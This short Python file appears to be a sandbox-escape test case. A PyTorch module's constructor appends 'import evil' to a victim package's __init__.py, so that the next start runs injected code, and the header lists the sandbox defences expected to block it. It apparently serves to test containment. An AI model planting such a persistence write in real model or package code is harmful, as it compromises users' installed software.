# what: changes our package, so that the next start runs its code
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp rlimits

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        with open(VICTIM["package"] + "/__init__.py", "a") as file:
            file.write("import evil\n")
        raise RuntimeError("GOT the package")
